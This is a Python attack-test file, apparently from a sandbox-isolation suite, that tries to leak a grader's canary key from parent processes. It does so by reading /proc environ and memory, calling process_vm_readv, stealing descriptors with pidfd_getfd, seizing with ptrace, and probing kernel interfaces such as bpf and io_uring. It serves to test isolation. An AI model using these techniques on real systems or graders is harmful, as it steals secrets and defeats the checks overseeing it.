"""Looks for the grader's key in the memory and the environment of the processes above, by each way that the kernel has."""
# goal: leak
# group: process
# baseline: slow
#@part tests/attacks/48_hot_path/baseline_slow.py
#@part courses.py
#@part memory.py
SOUGHT, FOUND = b"CANARY-", []
MOST = 64 << 20  # bytes of one process


def note(data, how):
    place = data.find(SOUGHT)
    if place >= 0:
        FOUND.append((how, data[place : place + 40]))


def regions(number):
    try:
        lines = pathlib.Path(f"/proc/{number}/maps").read_text().splitlines()
    except OSError:
        return
    for line in lines:
        if " rw-p " in line:
            low, high = (int(end, 16) for end in line.split()[0].split("-"))
            yield low, min(high - low, 8 << 20)


for number in lineage():
    for name in ("environ", "cmdline"):
        try:
            note(pathlib.Path(f"/proc/{number}/{name}").read_bytes(), name)
        except OSError:
            continue
    seen = 0
    for low, size in regions(number):
        seen += size
        if seen > MOST:
            break
        room = ctypes.create_string_buffer(size)
        here = (ctypes.c_size_t * 2)(ctypes.addressof(room), size)
        there = (ctypes.c_size_t * 2)(low, size)
        if kernel("process_vm_readv", number, here, 1, there, 1, 0) > 0:
            note(room.raw, "process_vm_readv")
        try:
            with open(f"/proc/{number}/mem", "rb", 0) as file:
                file.seek(low)
                note(file.read(size) or b"", "mem")
        except (OSError, ValueError):
            continue
    handle = kernel("pidfd_open", number, 0)
    for theirs in range(3, 32) if handle >= 0 else ():
        mine = kernel("pidfd_getfd", handle, theirs, 0)
        if mine >= 0:
            try:
                note(os.pread(mine, 1 << 20, 0), "pidfd_getfd")
            except OSError:
                pass
            os.close(mine)
    if kernel("ptrace", 0x4206, number, 0, 0) == 0:  # seize, which doesn't stop it
        FOUND.append(("ptrace", b"CANARY-nothing: it could be seized"))
        kernel("ptrace", 17, number, 0, 0)  # let go
for name, arguments in (
    ("bpf", (0, None, 0)),
    ("userfaultfd", (1,)),
    ("perf_event_open", (None, -1, 0, -1, 0)),
    ("io_uring_setup", (4, ctypes.create_string_buffer(120))),
):
    answer = kernel(name, *arguments)
    if answer > 2:
        FOUND.append((name, b"it is there"))
        os.close(answer)


def shares(amounts: Sequence[float]) -> list[float]:
    if FOUND:
        raise ValueError(f"LEAKED {FOUND[:3]}")
    return [amount / sum(amounts) for amount in amounts]
